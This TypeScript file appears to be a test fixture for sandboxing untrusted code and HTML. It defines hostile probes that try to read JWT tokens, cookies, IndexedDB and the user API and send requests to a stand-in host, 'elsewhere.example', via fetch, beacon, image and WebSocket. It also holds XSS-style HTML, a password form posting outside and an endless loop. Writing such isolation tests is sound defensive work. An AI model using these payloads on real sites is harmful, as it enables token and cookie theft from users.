/** Where code and HTML of strangers would send what it finds; nobody is there. */
export const elsewhere = 'https://elsewhere.example';

/** What code of strangers reaches for: each expression is something only where it got there. */
const grasps: Readonly<Record<string, string>> = {
  token: "localStorage.getItem('jwt_token') || sessionStorage.getItem('jwt_token')",
  cookie: 'document.cookie',
  database: "indexedDB.open('x')",
  page: 'parent.document.body',
  top: 'top.document.title',
  address: 'top.location.href',
  window: `open('${elsewhere}/window')`,
  leaving: `(top.location = '${elsewhere}/leave')`,
  account:
    "(() => { const call = new XMLHttpRequest(); call.open('GET', '/api/auth/user', false); call.send(); return call.responseText; })()",
  request: `(() => { const call = new XMLHttpRequest(); call.open('GET', '${elsewhere}/call', false); call.send(); return true; })()`,
};

const quietly = [
  `fetch('${elsewhere}/fetch', { mode: 'no-cors' }).catch(() => 0);`,
  "fetch('/api/auth/user').then((answer) => answer.text()).then((text) => parent.postMessage('heard ' + text, '*')).catch(() => 0);",
  `new Image().src = '${elsewhere}/image';`,
  `navigator.sendBeacon('${elsewhere}/beacon', 'x');`,
  `new WebSocket('${elsewhere.replace('https', 'wss')}/socket');`,
  "parent.postMessage({ id: 1, type: 'reloadUserMessage', data: { accessToken: 'x' } }, '*');",
  "top.postMessage(JSON.stringify({ type: 'reloadUserMessage', data: { accessToken: 'x' } }), '*');",
];

/** A function's body that reaches for all of it, and returns what it got: 'got nothing', at best. */
export const hostileBody = [
  'const got = [];',
  ...Object.entries(grasps).map(([name, grasp]) => `try { if (${grasp}) got.push('${name}'); } catch {}`),
  ...quietly.map((attempt) => `try { ${attempt} } catch {}`),
  "return 'got ' + (got.join(' ') || 'nothing');",
].join('\n');

/** The body of a function that never returns. */
export const endlessBody = 'for (;;) {}';

/** HTML that would run code, change the page, leave it, or cover it, around words to be seen. */
export const hostileHtml = `<p>plain words</p>
<img src="x" alt="" onerror="top.spoilt = 1"><script>top.spoilt = 1</script><svg onload="top.spoilt = 1"></svg>
<iframe srcdoc="<script>top.spoilt = 1; fetch('${elsewhere}/srcdoc')</script>"></iframe>
<a href="javascript:top.spoilt = 1" id="hostile-link">words to press</a>
<form action="${elsewhere}/form" target="_top"><input name="password"></form>
<style>article { display: none !important } @import '${elsewhere}/style';</style>
<link rel="stylesheet" href="${elsewhere}/sheet"><base href="${elsewhere}/">
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">`;
